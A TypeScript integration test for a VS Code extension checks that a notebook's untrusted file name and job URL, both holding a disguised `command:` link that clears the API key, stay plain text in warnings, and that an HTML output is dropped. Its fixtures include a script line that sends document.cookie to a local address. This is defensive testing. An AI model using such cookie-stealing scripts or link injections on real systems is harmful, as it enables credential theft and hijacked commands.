// Text the extension does not control holds a `command:` link built to look like one of the
// extension's own: here a Firecrawl notebook's file name and job URL, and an HTML output in it
// (a real VS Code opens the notebook). The warning shows them as text, and "clicking where the
// link would be" changes nothing. (A page title and an agent answer are tested on the fake
// vscode: test/unit/extension/untrusted-text.test.ts.)
import * as assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as vscode from 'vscode';
import type { ExtensionApi } from '../../src/extension-api';
import { closeEditors, CMD, extensionApi, resetSettings, settleWebviews, stopAllSessions, useBackend, waitFor } from './support/extension';
import { Stubs, type ShownMessage } from './support/stubs';
import { atEnd, getWorld, type World } from './support/world';

// VS Code's own rule for links in notification messages (vs/base/common/linkedText.ts).
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

/** Runs each command link VS Code would render in `text`, as a click on it would. */
async function clickLinks(text: string): Promise<string[]> {
  const hrefs = [...text.matchAll(VSCODE_LINK)].map((m) => m[2]).filter((h) => h.startsWith('command:') && !h.startsWith(`command:${CMD.openLiveView}`));
  for (const href of hrefs) {
    const [id, query] = href.slice('command:'.length).split('?');
    await vscode.commands.executeCommand(id, ...(query ? (JSON.parse(decodeURIComponent(query)) as unknown[]) : []));
  }
  return hrefs;
}

describe('outside text in notifications (issue 16)', function () {
  let api: ExtensionApi;
  let world: World;
  const stubs = new Stubs();

  before(async function () {
    this.timeout(180_000);
    world = await getWorld();
    api = await extensionApi();
    await useBackend(api, world.engine);
    await stopAllSessions(api);
  });

  afterEach(() => stubs.restore());

  after(async function () {
    this.timeout(60_000);
    await stopAllSessions(api);
    await resetSettings();
  });

  it('a .fcnb with a text/html output opens without it; its file name and job URL in the warning stay text', async () => {
    const shown: ShownMessage[] = stubs.notifications();
    const dir = mkdtempSync(join(tmpdir(), 'interact-untrusted-'));
    atEnd(() => rmSync(dir, { recursive: true, force: true }));
    const path = join(dir, 'shop[Open the report](command:firecrawlInteract.clearApiKey).fcnb');
    const html = '<script>fetch("http://127.0.0.1:9/capture?" + document.cookie)</script>';
    const cells = [{ kind: 'code', language: 'javascript', source: ['1'], outputs: [{ items: [{ mime: 'text/html', text: [html] }] }, { items: [{ mime: 'text/plain', text: ['kept'] }] }] }];
    const job = { id: '9f0e8d7c-6b5a-4c3d-8e1f-0a1b2c3d4e5f', url: 'https://example.org/[Open the report](command:firecrawlInteract.clearApiKey)' };
    writeFileSync(path, JSON.stringify({ format: 'firecrawl-interact-notebook', version: 1, job, cells }));
    try {
      const nb = await vscode.workspace.openNotebookDocument(vscode.Uri.file(path));
      await vscode.window.showNotebookDocument(nb);
      const mimes = nb.cellAt(0).outputs.map((o) => o.items.map((i) => i.mime));
      assert.deepEqual(mimes, [['text/plain']], 'the text/html output was loaded');
      assert.match(api.logText(), /cell 1: an output of type "text\/html" was left out/);
      await waitFor(() => shown.some((m) => m.message.includes('The job of shop')), 10_000, 'the warning about the unknown job');
      const warning = shown.find((m) => m.message.includes('The job of shop')) as ShownMessage;
      assert.deepEqual([...warning.message.matchAll(VSCODE_LINK)], [], warning.message);
      assert.deepEqual(await clickLinks(warning.message), []);
    } finally {
      await settleWebviews();
      await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor').then(undefined, () => undefined);
      await closeEditors();
    }
  });
});
